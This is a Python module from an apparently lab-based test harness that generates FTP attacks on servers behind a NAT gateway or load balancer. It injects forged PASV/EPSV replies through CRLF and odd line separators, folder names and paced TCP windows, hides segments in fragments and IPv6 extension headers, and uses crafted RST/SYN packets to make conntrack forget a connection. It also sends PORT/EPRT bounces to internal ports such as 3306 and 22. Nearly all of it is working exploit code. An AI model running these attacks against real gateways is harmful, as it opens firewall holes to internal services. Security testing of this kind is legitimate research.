# SPDX-License-Identifier: GPL-2.0-or-later
"""The attacks, by groups. Each group takes a target (attacks.py) and how much is wanted, "short" or "all",
and yields functions that try one attack and return the text that the client was given.

  echo      a line whose argument holds line ends, a request and an announcement, for every verb
  separator the same with every byte that somebody may take for the end of a line
  step      one command at a time, in single bytes, with tiny segments and a small window
  anonymous after an anonymous login, before any
  foreign   announcements in the place of verbs and arguments of requests
  names     folders of such names, which servers list and name
  paced     the same, with a reply that stops where the client likes
  unseen    segments that the gateway may not read: headers, options, fragments
  forgotten conntrack made to forget the connection
  replaced  other words sent in the place of ones that the server never got
  active    PORT and its kin that name somebody else
"""
import os
import socket
from functools import partial
from itertools import cycle

import raw_tcp

SECRETS = (3306, 8888)
INSIDE = {False: "10.0.0.2", True: "fd00::2"}


# ---- what is announced, and asked for ----

def announcements(v6):
    """For the first of the secrets, in every form that a client reads."""
    numbers = b"10,0,0,2,12,234"
    delimited = b"(|||3306|)"
    usual = [b"227 Entering Passive Mode (" + numbers + b")", b"229 Entering Extended Passive Mode " + delimited]
    if v6:
        usual.reverse()
    address = socket.inet_pton(socket.AF_INET6, INSIDE[True])
    long = b"6,16," + b",".join(b"%d" % byte for byte in address) if v6 else b"4,4,10,0,0,2"
    proto = b"2" if v6 else b"1"
    return usual + [
        b"229 Extended (|" + proto + b"|" + INSIDE[v6].encode() + b"|3306|)",
        b"228 Entering Long Passive Mode (" + long + b",2,12,234)",
        b"227-" + numbers + b"\r\n227 end",
        b"200 " + delimited,
        b"250 (10,0,0,2,34,184)",
    ]


def requests(v6):
    return [b"EPSV", b"PASV", b"EPSV 2", b"LPSV"] if v6 else [b"PASV", b"EPSV", b"CPSV", b"LPSV", b"EPSV 1"]


VERBS = (b"USER", b"CWD", b"MKD", b"RNFR", b"SIZE", b"TYPE", b"STAT", b"SITE", b"HELP", b"XYZZ", b"PASS", b"ACCT",
         b"XMKD", b"XCWD", b"RMD", b"DELE", b"MDTM", b"RETR", b"STOR", b"APPE", b"STRU", b"MODE", b"ALLO", b"REST",
         b"OPTS", b"MLST", b"MLSD", b"LIST", b"NLST", b"SITE CHMD 644", b"SITE HELP", b"RNTO", b"LANG", b"CLNT",
         b"HOST", b"MFMT", b"AUTH", b"PROT", b"PBSZ", b"NOOP", b"QUIT", b"CDUP", b"PWD", b"SYST", b"FEAT", b"ABOR",
         b"PORT", b"EPRT", b"LPRT", b"EPSV", b"PASV", b"HASH", b"PRET", b"MFF", b"CSID", b"XCRC", b"STOU")

SEPARATORS = (b"\n", b"\r", b"\r\0", b"\0", b"\x0b", b"\x0c", b"\xc2\x85", b"\x85", b"\xe2\x80\xa8", b"\xe2\x80\xa9",
              b"\x1c", b"\x1d", b"\x1e", b"\r\0\n", b"\r\r\n", b"\n\r", b"\r\xff\xf1\n", b"\xff\xf1\n", b"\xff\xff\n",
              b"\r\xff\xff\n", b"\xff\xfb\n", b"\xff\xfa\n", b"\xff\n", b"\r\0\0\n", b"\x08\n", b"\t\n", b" \n",
              b"\r\n ", b"\r\n\0", b"\r\n\xff\xf1", b"\r\xff\xfb\n", b"\\n", b"%0a", b"\x1a", b"\x04")


def shapes(verb, separator, request, announcement):
    """Lists of what is sent between two waits."""
    line, end = verb + b" a", b"\r\n"
    forged = separator + announcement + separator
    return [
        [line + separator + request + forged + b"b" + end],
        [line + forged + b"b" + end + request + end],
        [request + end + line + forged + b"b" + end],
        [line + separator + request + end, announcement + end],
        [b"NOOP" + end + line + separator + request + forged + end + request + end],
        [line + forged + end, request + end],
        [line + b" " + announcement + end + request + end],
        [line + separator + request + separator + request + forged + end],
    ]


# ---- a session ----

def pieces(data, how):
    if how == "bytes":
        return [data[i:i + 1] for i in range(len(data))]
    if how == "ends":
        return data.replace(b"\r", b"\r\xde\xad").replace(b"\n", b"\n\xde\xad").split(b"\xde\xad")
    return [data]


def wait(s):
    """Whatever comes next; some servers wait for the rest of a line."""
    s.settimeout(1)
    try:
        return s.recv(65536)
    except TimeoutError:
        return b""


def finish(s):
    """Says good-bye and takes what comes; a server that has not understood hears the end."""
    text = b""
    try:
        s.sendall(b"\r\nQUIT\r\n")
        s.shutdown(socket.SHUT_WR)
        s.settimeout(5)
        while part := s.recv(65536):
            text += part
    except OSError:
        pass
    s.close()
    return text


def talk(target, steps, user=b"test", how="whole", **options):
    s = target.connect(**options)
    try:
        if user:
            target.login(s, user)
        text = b""
        for number, step in enumerate(steps):
            if number > 0:
                text += wait(s)
            for piece in pieces(step, how):
                s.sendall(piece)
        return text + finish(s)
    except (BrokenPipeError, ConnectionResetError):
        return b""
    finally:
        s.close()


# ---- groups: lines that a server repeats ----

def usual(target):
    """The announcement and the request of this family, and where a short selection begins."""
    return announcements(target.v6)[0], requests(target.v6)[0], int(target.v6)


def echo(target, amount):
    text, request, turn = usual(target)
    for verb in VERBS if amount == "all" else VERBS[:10]:
        every = shapes(verb, b"\n", request, text)
        turn += 1
        for steps in every if amount == "all" else [every[turn % len(every)]]:
            yield partial(talk, target, steps)
    if amount != "all":
        return
    for verb in VERBS[:12]:
        for request in requests(target.v6):
            for text in announcements(target.v6):
                turn += 1
                yield partial(talk, target, shapes(verb, b"\n", request, text)[turn % len(every)])


def separator(target, amount):
    text, request, turn = usual(target)
    verbs = (b"CWD", b"USER", b"MKD", b"STAT", b"TYPE", b"XYZZ") if amount == "all" else (b"CWD",)
    for verb in verbs:
        for byte in SEPARATORS if amount == "all" else SEPARATORS[1 + turn:20:3]:
            every = shapes(verb, byte, request, text)
            turn += 1
            for steps in every if amount == "all" else [every[turn % 2]]:
                yield partial(talk, target, steps)


def step(target, amount):
    text, request, _ = usual(target)
    ways = cycle([{"how": "bytes"}, {"how": "ends"}, {"mss": 88}, {"mss": 88, "room": 1},
                  {"how": "bytes", "mss": 88, "room": 1}])
    for verb in VERBS[:12] if amount == "all" else (b"CWD",):
        for byte in SEPARATORS[:5] if amount == "all" else SEPARATORS[:1]:
            for steps in shapes(verb, byte, request, text)[:None if amount == "all" else 2]:
                yield partial(talk, target, steps, **next(ways))


def anonymous(target, amount):
    text, request, turn = usual(target)
    for user in (b"", b"anonymous"):
        for verb in VERBS[:10] if amount == "all" else (b"USER", b"CWD"):
            for byte in (b"\n", b"\r\0") if amount == "all" else (b"\n",):
                every = shapes(verb, byte, request, text)
                turn += 1
                for steps in every if amount == "all" else [every[turn % 2]]:
                    yield partial(talk, target, steps, user=user)


def foreign(target, amount):
    """Without any odd byte: an announcement where a verb or an argument stands."""
    wanted = requests(target.v6)
    for text in announcements(target.v6)[:None if amount == "all" else 1]:
        bare = text.partition(b" ")[2]
        lines = (text, b"EPSV " + bare, b"TYPE " + bare, b"OPTS " + text, b"PASV " + bare, b"PORT " + bare.strip(b"()"),
                 b"EPRT " + bare.strip(b"()"), b"CWD " + bare)
        for line in lines[:None if amount == "all" else 2]:
            yield partial(talk, target, [line + b"\r\n" + wanted[0] + b"\r\n"])
            for request in wanted if amount == "all" else ():
                yield partial(talk, target, [line + b"\r\n", request + b"\r\n"])
                yield partial(talk, target, [request + b"\r\n" + line + b"\r\n"])
                yield partial(talk, target, [b"EPSV ALL\r\n" + line + b"\r\n", request + b"\r\n"])


# ---- groups: names of folders ----

def folders(target):
    """Folders whose names hold an announcement, and short names that lead there."""
    text = announcements(target.v6)[0]
    names = {
        b"crlf": b"crlf\r\n" + text,
        b"lf": b"lf\n" + text,
        b"quote": b'quote"\r\n' + text + b"\r\n",
        b"two": b"two\r\n" + text[:3] + b" x\r\n" + text + b"\r\n",
        b"plain": text,
        b"end": b"213 End.\r\n" + text + b"\r\n",
        b"odd": text[:3] + b" A",
    }
    family = b"6" if target.v6 else b"4"
    for short, name in names.items():
        path = os.path.join(target.root.encode(), name)
        if not os.path.isdir(path):
            os.makedirs(path + b"/sub")
            for folder in (path, path + b"/sub"):
                os.chown(folder, 2121, 2121)
        link = os.path.join(target.root.encode(), b"to-" + short + family)
        if not os.path.islink(link):
            os.symlink(name, link)
    return [b"to-" + short + family for short in names]


ASKED_THERE = (b"PWD", b"MLST .", b"MKD new", b"MLST sub", b"CDUP", b"STAT .", b"MLST", b"STAT -1", b"XPWD", b"CWD .",
               b"CWD sub", b"STAT", b"RMD new", b"STOU", b"SITE CHMD 755 .", b"LIST", b"MLSD", b"RETR x", b"HELP")


def names(target, amount):
    request = requests(target.v6)[0] + b"\r\n"
    for number, folder in enumerate(folders(target)):
        go = b"CWD " + folder + b"\r\n"
        there = ASKED_THERE if amount == "all" else (b"PWD", b"MLST .") if b"quote" in folder else (ASKED_THERE[number],)
        for line in there:
            yield partial(talk, target, [go + line + b"\r\n" + request])
            if amount == "all":
                yield partial(talk, target, [go, line + b"\r\n", request])
                yield partial(talk, target, [go, line + b"\r\n" + request])
        for line in (b"STAT -1", b"MLST " + folder, b"STAT " + folder) if amount == "all" else ():
            yield partial(talk, target, [line + b"\r\n" + request])
        if amount == "all":
            yield partial(talk, target, [go + request])
    for line in (b"STAT .", b"STAT -l", b"STAT *", b"STAT -1"):
        if amount == "all" or line == listing(target):
            yield partial(talk, target, [line + b"\r\n" + request])


def reply_to(target, lines):
    """What the server says to NOOP, and to the last of these lines with a NOOP behind it."""
    s = target.connect()
    target.login(s)
    for line in lines[:-1]:
        s.sendall(line + b"\r\n")
        read_up_to(s, b"\n")
    s.sendall(b"NOOP\r\n")
    noop = read_up_to(s, b"\n")
    s.sendall(lines[-1] + b"\r\nNOOP\r\n")
    text = read_up_to(s, noop)
    s.close()
    return noop, text[:-len(noop)]


def read_up_to(s, end):
    text = b""
    while not text.endswith(end):
        part = s.recv(65536)
        if not part:
            raise RuntimeError(f"no {end!r} after {text[-100:]!r}")
        text += part
    return text


def stops(text, v6, odd):
    """Places before a forged line; odd: behind a line that reads as the end of a reply."""
    forged = announcements(v6)[0]
    places, at = [], text.find(forged)
    while at >= 0:
        before = text[:at].split(b"\n")[-2:-1]
        if text[at - 1:at] == b"\n" and (before[0][:4] == forged[:4] or not odd):
            places.append(at)
        at = text.find(forged, at + 1)
    return places


def raw_login(target):
    s = raw_tcp.RawTcp(target.vip, target.own)
    ended = lambda: s.got.endswith(b"\n") and s.got.rsplit(b"\n", 2)[-2][3:4] == b" "
    s.until(ended, "greeting")
    for line in (b"USER test\r\n", b"PASS test\r\n"):
        s.got = b""
        s.send(line)
        s.until(ended, "login")
    s.ended = ended
    return s


def said(s, line):
    s.got = b""
    s.send(line + b"\r\n")
    s.until(s.ended, repr(line))
    s.got = b""


def stop_and_ask(s, target, size, line, **how):
    """Takes so many bytes of the reply, asks for a port, and takes the rest."""
    s.window, s.limited, s.got = size, True, b""
    s.send(line + b"\r\n", **how)
    s.until(lambda: len(s.got) >= size, f"{size} bytes of the reply to {line!r}")
    s.send(requests(target.v6)[0] + b"\r\n")
    s.limited, s.window = False, 8000
    s.acknowledge()
    return leave(s)


def leave(s):
    s.send(b"QUIT\r\n")
    s.read(lambda: s.over, 2)
    s.close()
    return s.got


def paced_attack(target, before, line, size):
    s = raw_login(target)
    for command in before:
        said(s, command)
    return stop_and_ask(s, target, size, line)


def listing(target):
    return b"STAT ." if target.name == "pyftpdlib" else b"STAT -1"


def paced(target, amount):
    """The reply stops before an announcement."""
    cases = [([b"CWD " + folder], line) for folder in folders(target)
             for line in (b"PWD", b"MLST .", b"MKD new%d" % os.getpid(), b"CWD .", b"CDUP", b"MLST sub", b"MLST")]
    cases += [([], b"STAT -1"), ([], b"STAT .")]
    if amount != "all":
        quote, two = (folder for folder in folders(target) if folder[3:-1] in (b"quote", b"two"))
        cases = [([b"CWD " + quote], b"PWD"), ([b"CWD " + two], b"MLST ."), ([], listing(target))]
    for before, line in cases:
        _, text = reply_to(target, [*before, line])
        places = stops(text, target.v6, False)
        for size in places if amount == "all" else places[-1:]:
            yield partial(paced_attack, target, before, line, size)


# ---- groups: what the gateway may not see ----

def unseen_attack(target, size, how):
    """NOOP and a listing in a segment that may not be read; a request in the midst of the listing."""
    try:
        return stop_and_ask(raw_login(target), target, size, b"NOOP\r\n" + listing(target), **how)
    except TimeoutError:
        return b""  # such segments do not arrive


def hidden(target):
    """How much of the replies to NOOP and a listing is taken before the request."""
    folders(target)
    noop, text = reply_to(target, [listing(target)])
    return [len(noop) + place for place in stops(text, target.v6, True)[-1:]]


def unseen(target, amount):
    if target.v6:
        ways = [{"wrap": raw_tcp.routing}, {"wrap": raw_tcp.options(9)}, {"fragment": 24}, {"wrap": raw_tcp.options(1)},
                {"wrap": raw_tcp.hop_by_hop}, {"fragment": 1232}]
    else:
        ways = [{"fragment": 24}, {"wrap": b"\x01\x01\x01\0"}, {"fragment": 8}]
    for size in hidden(target):
        for how in ways if amount == "all" else ways[:1 + 2 * target.v6]:
            yield partial(unseen_attack, target, size, how)


def forgotten_attack(target, size, reopen):
    """A reset and a SYN that end at the director: conntrack forgets, IPVS and the server do not."""
    s = raw_login(target)
    s.packet(raw_tcp.RST, hops=1)
    if reopen:
        s.packet(raw_tcp.SYN, hops=1)
    return stop_and_ask(s, target, size, b"NOOP\r\n" + listing(target))


def forgotten(target, amount):
    for size in hidden(target):
        for reopen in (True, False) if amount == "all" else (True,):
            yield partial(forgotten_attack, target, size, reopen)


def replaced_attack(target, first, second):
    s = raw_login(target)
    s.packet(raw_tcp.ACK | raw_tcp.PSH, first, hops=1)
    s.send(second)
    return leave(s)


def replaced(target, amount):
    """The gateway reads what ends at the director; the server other words of the same length."""
    folders(target)
    request, text = requests(target.v6)[0] + b"\r\n", announcements(target.v6)[0]
    for second in (listing(target) + b"\r\n" + request, b"STAT  .\r\n" + request, b"CWD a\nb\r\n" + request):
        if amount != "all" and second[:4] == b"CWD ":
            continue
        first = b"NOOP" + b" " * (len(second) - len(request) - 6) + b"\r\n" + request
        yield partial(replaced_attack, target, first, second)
    second = b"CWD a\n" + text + b"\nb\r\n"
    first = b"CWD " + b"a" * (len(second) - len(request) - 6) + b"\r\n" + request
    yield partial(replaced_attack, target, first, second)


# ---- active mode ----

def active(target, amount):
    """Addresses that are not the client's, ports below 1024: of the other server, the director, a loop."""
    if target.v6:
        lines = [b"EPRT |2|fd00::3|8888|", b"EPRT |2|fd00::2|3306|", b"EPRT |2|::1|8888|", b"EPRT |2|2001:db8:1::1|8888|",
                 b"EPRT |1|10.0.0.3|8888|", b"EPRT |2|::ffff:10.0.0.3|8888|", b"EPRT |2|" + target.own.encode() + b"|22|",
                 b"LPRT 6,16,253,0,0,0,0,0,0,0,0,0,0,0,0,0,0,3,2,34,184", b"PORT 10,0,0,3,34,184"]
    else:
        lines = [b"PORT 10,0,0,3,34,184", b"PORT 10,0,0,2,12,234", b"PORT 127,0,0,1,34,184", b"PORT 198,51,100,1,34,184",
                 b"EPRT |1|10.0.0.3|8888|", b"EPRT |2|::ffff:10.0.0.3|8888|", b"PORT 198,51,100,2,0,22",
                 b"LPRT 4,4,10,0,0,3,2,34,184", b"PORT 010,0,0,3,34,184"]
    for line in lines if amount == "all" else lines[:3]:
        yield partial(talk, target, [line + b"\r\nLIST\r\n"])
        if amount == "all":
            yield partial(talk, target, [b"NOOP\n" + line + b"\n", b"LIST\r\n"])


GROUPS = {f.__name__: f for f in (echo, separator, step, anonymous, foreign, names, paced, unseen, forgotten, replaced,
                                  active)}
